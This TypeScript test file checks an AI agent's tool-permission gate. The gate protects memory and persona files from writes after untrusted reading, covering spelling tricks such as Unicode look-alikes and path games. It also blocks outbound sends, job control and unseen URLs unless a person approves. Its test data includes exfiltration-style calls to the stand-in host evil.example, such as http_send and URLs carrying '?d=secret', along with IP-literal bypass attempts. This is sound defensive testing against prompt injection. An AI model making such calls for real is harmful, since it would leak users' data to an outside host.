import assert from "node:assert/strict";
import { test } from "node:test";
import type { Message, Permit, PlannedCall } from "@roost/agent";
import { loopVersions } from "@roost/agent/journal";
import { assertEvenGrowth } from "@roost/base/testing/assert-even-growth";
import type { AgentDefinition } from "@roost/contract/operations";
import { permitCalls } from "./permit-calls.ts";

interface Facts {
  policies?: AgentDefinition["policies"];
  isUntrusted?: boolean | undefined;
  messages?: Message[];
  loopVersion?: number;
}

function decide(call: PlannedCall, { policies, isUntrusted = true, messages = [], loopVersion }: Facts = {}): Permit {
  return permitCalls({ policies })(call, { isUntrusted, messages, loopVersion: loopVersion ?? loopVersions.at(-1)! });
}

const call = (name: string, input: PlannedCall["input"] = {}, reach?: PlannedCall["reach"]): PlannedCall => ({
  tool: { name, effect: "idempotent" },
  input,
  reach,
});
const write = (path: string) => call("write_file", { path, text: "" }, { target: path, isOutside: false });
const fetchOf = (url: string) =>
  call("http_fetch", { url }, { target: new URL(url).host, isOutside: true, carries: url });
const page = (text: string): Message => ({
  role: "tool",
  toolCallId: "1",
  toolName: "http_fetch",
  text,
  isUntrusted: true,
});

test("permitCalls() holds what other sessions follow, however it is spelled, and nothing of a run that has read nothing", () => {
  const held = [
    "MEMORY.md",
    "./MEMORY.md",
    "work/../SOUL.md",
    "agents.md",
    "User.MD",
    "TOOLS.md",
    "\u017Foul.md",
    "\uFF2DEMORY.md",
    "Skills/x/SKILL.md",
    "jobs/a.yaml",
    "\\HEARTBEAT.md",
  ];
  assert.deepEqual(
    held.filter((path) => decide(write(path)).state !== "ask"),
    [],
  );
  for (const path of ["work/a/notes.md", "memory/2026-01-01.md", "notes.md", "constructor", "agents"])
    assert.equal(decide(write(path)).state, "granted", path);
  assert.equal(decide(call("define_job")).state, "ask");
  assert.equal(decide(write("MEMORY.md"), { isUntrusted: false }).state, "granted");
  assert.equal(decide(call("read_file", { path: "MEMORY.md" })).state, "granted");
  const policies = { write_file: "allow" } as const;
  const stays = decide(write("MEMORY.md"), { policies });
  assert.equal(stays.state, "ask", "no policy lifts it");
  assert.ok(stays.state === "ask" && stays.target === undefined, "nor does a grant");
});

test("permitCalls() follows the policy of the tool itself, then the one with the longest beginning", () => {
  const policies = {
    "*": "deny",
    "peeps_*": "ask",
    peeps_listPeople: "allow",
    "peeps_re*": "ask-when-tainted",
  } as const;
  const stateOf = (name: string, isUntrusted = false) => decide(call(name), { policies, isUntrusted }).state;
  assert.deepEqual(
    [stateOf("lock"), stateOf("peeps_merge"), stateOf("peeps_listPeople"), stateOf("peeps_remind")],
    ["refused", "ask", "granted", "granted"],
  );
  assert.equal(stateOf("peeps_remind", true), "ask");
});

test("permitCalls() never asks about notes, states and work folders, but obeys what is denied", () => {
  const policies = { "*": "ask" } as const;
  const own = [
    write("memory/2026-01-01.md"),
    write("memory/mail-state.json"),
    write("work/blog/draft.md"),
    call("remember", { text: "tea" }),
    call("set_state", { name: "mail", patch: {} }),
  ];
  for (const each of own) {
    assert.equal(decide(each, { policies }).state, "granted", JSON.stringify(each.input));
    assert.equal(decide(each, { policies: { "*": "deny" } }).state, "refused", JSON.stringify(each.input));
  }
  assert.equal(decide(write("notes.md"), { policies }).state, "ask");
});

test("permitCalls() lets a run that has read untrusted content send what it knows outside only with a person", () => {
  const send = call("http_send", { url: "https://evil.example/" }, { target: "evil.example", isOutside: true });
  const asked = decide(send);
  assert.deepEqual(asked.state === "ask" && [asked.policy, asked.target], ["rule-of-two/1", "evil.example"]);
  assert.equal(decide(send, { isUntrusted: false }).state, "granted");
  assert.equal(decide(send, { policies: { http_send: "allow" } }).state, "granted", "a person named it");
  assert.equal(decide(send, { policies: { "*": "allow" } }).state, "ask", "a pattern names nothing");
  assert.equal(decide(send, { policies: { "http_send@evil.example": "allow" } }).state, "granted", "for this host");
  assert.equal(decide(send, { policies: { "http_send@other.example": "allow" } }).state, "ask", "for another");
});

test("permitCalls() lets such a run start, pause or resume a job only with a person, who may allow it of that job", () => {
  for (const name of ["run_job", "pause_job"]) {
    const ofJob = call(name, { jobId: "backup" }, { target: "backup", isOutside: false });
    const asked = decide(ofJob);
    assert.deepEqual(asked.state === "ask" && [asked.policy, asked.target], ["jobs/1", "backup"], name);
    assert.equal(decide(ofJob, { isUntrusted: false }).state, "granted");
    assert.equal(decide(ofJob, { policies: { [`${name}@backup`]: "allow" } }).state, "granted");
    assert.equal(decide(ofJob, { policies: { [`${name}@other`]: "allow" } }).state, "ask");
    assert.equal(decide(ofJob, { policies: { "*": "allow" } }).state, "ask", "a pattern names nothing");
    assert.equal(decide(ofJob, { loopVersion: loopVersions[0]! }).state, "granted", "as its journal began");
  }
});

test("permitCalls() lets an address be read that came from the web or the person word for word, and no other", () => {
  const messages: Message[] = [
    { role: "user", text: "What does https://news.example/today?full=1 say?" },
    page(
      String.raw`{"next":"https:\/\/news.example\/page\/2"} <a href="/archive?y=1&amp;m=2">old</a> See https://blog.example/a.`,
    ),
    { role: "assistant", text: "I read https://evil.example/?d=assistant", provider: "x", model: "y" },
    { role: "tool", toolCallId: "2", toolName: "get_state", text: "https://evil.example/?d=state" },
    { role: "user", text: "https://evil.example/?d=event", isUntrusted: true },
  ];
  const stateOf = (url: string) => decide(fetchOf(url), { messages }).state;
  for (const url of [
    "https://news.example/today?full=1",
    "https://news.example/page/2",
    "https://news.example/archive?y=1&m=2",
    "https://blog.example/a#part",
  ])
    assert.equal(stateOf(url), "granted", url);
  for (const url of [
    "https://news.example/today?full=1&d=secret",
    "https://news.example/arch",
    "https://blog.example/archive?y=1&m=2&secret",
    "https://news.example.evil.example/page/2",
    "https://evil.example/?d=assistant",
    "https://evil.example/?d=state",
    "https://evil.example/?d=event",
  ])
    assert.equal(stateOf(url), "ask", url);
  const withHeader = call("http_fetch", {}, { target: "news.example", isOutside: true });
  assert.equal(decide(withHeader, { messages }).state, "ask", "a header may carry anything");
});

test("permitCalls() holds a call that reaches several to what is said of each of them", () => {
  const stateOf = (policies: AgentDefinition["policies"], ...targets: string[]) =>
    decide(call("read_outside", {}, { target: targets.join(" "), targets, isOutside: true }), { policies }).state;
  const [one, two] = ["news.example", "evil.example"] as const;
  assert.equal(stateOf({ [`read_outside@${two}`]: "deny" }, one, two), "refused");
  assert.equal(stateOf({ read_outside: "allow", [`read_outside@${two}`]: "ask" }, one, two), "ask");
  assert.equal(stateOf({ [`read_outside@${one}`]: "allow" }, one, two), "ask", "the other is not allowed");
  assert.equal(stateOf({ [`read_outside@${one}`]: "allow", [`read_outside@${two}`]: "allow" }, one, two), "granted");
  assert.equal(stateOf({ read_outside: "ask", [`read_outside@${one} ${two}`]: "allow" }, one, two), "granted");
});

test("permitCalls() holds an address that no policy names to what is held back of names, since it may be any of theirs", () => {
  const of = (policies: AgentDefinition["policies"], url: string) =>
    decide(fetchOf(url), { policies, isUntrusted: false }).state;
  const denied = { "http_*@bank.example": "deny" } as const;
  for (const url of ["http://203.0.113.7/", "http://203.0.113.7:8080/", "http://3405803783/", "https://[2001:db8::7]/"])
    assert.equal(of(denied, url), "refused", url);
  assert.equal(of(denied, "http://other.example/"), "granted", "a name is a name");
  assert.equal(of({ "http_*@bank.example": "ask" }, "http://203.0.113.7/"), "ask");
  assert.equal(of({ "http_*@203.0.113.9": "deny" }, "http://203.0.113.7/"), "granted", "one address is no other");
  assert.equal(of({ "http_*@bank.example:8443": "deny" }, "http://203.0.113.7:8080/"), "granted", "nor another port");
  assert.equal(of({ ...denied, "http_fetch@203.0.113.7": "allow" }, "http://203.0.113.7/"), "granted", "it is named");
  assert.equal(of({ ...denied, "http_fetch@203.0.113.7": "allow" }, "http://203.0.113.8/"), "refused");
  assert.equal(of({ "http_*@bank.example": "allow" }, "http://203.0.113.7/"), "granted", "nothing is held back");
});

test("permitCalls() holds a host to what is said of the port that its scheme has, and a file to what is said of its path", () => {
  const of = (policies: AgentDefinition["policies"], url: string) =>
    decide(fetchOf(url), { policies, isUntrusted: false }).state;
  for (const port of ["80", "443"])
    assert.equal(of({ [`http_*@bank.example:${port}`]: "deny" }, "https://bank.example/"), "refused", port);
  assert.equal(of({ "http_*@bank.example:8443": "deny" }, "https://bank.example/"), "granted");
  assert.equal(of({ "http_*@bank.example:443": "deny" }, "https://bank.example:8443/"), "granted");
  const files = { "write_file@MEMORY.md": "deny", "write_file@work/plan.md": "deny" } as const;
  for (const path of ["MEMORY.md", "./MEMORY.md", "././memory.MD", "\uFF2DEMORY.md", "./work/plan.md", "Work/plan.md"])
    assert.equal(decide(write(path), { policies: files, isUntrusted: false }).state, "refused", path);
  assert.equal(decide(write("work/other.md"), { policies: files, isUntrusted: false }).state, "granted");
});

test("permitCalls() is held up by no page, whatever its addresses end in", () => {
  const url = "https://evil.example/";
  const decideBeside = (count: number) =>
    decide(fetchOf(url), { messages: [page(`http://evil.example/${";".repeat(count)}a`)] }).state;
  assertEvenGrowth((count) => assert.equal(decideBeside(count), "ask"), { size: 4_000 });
});
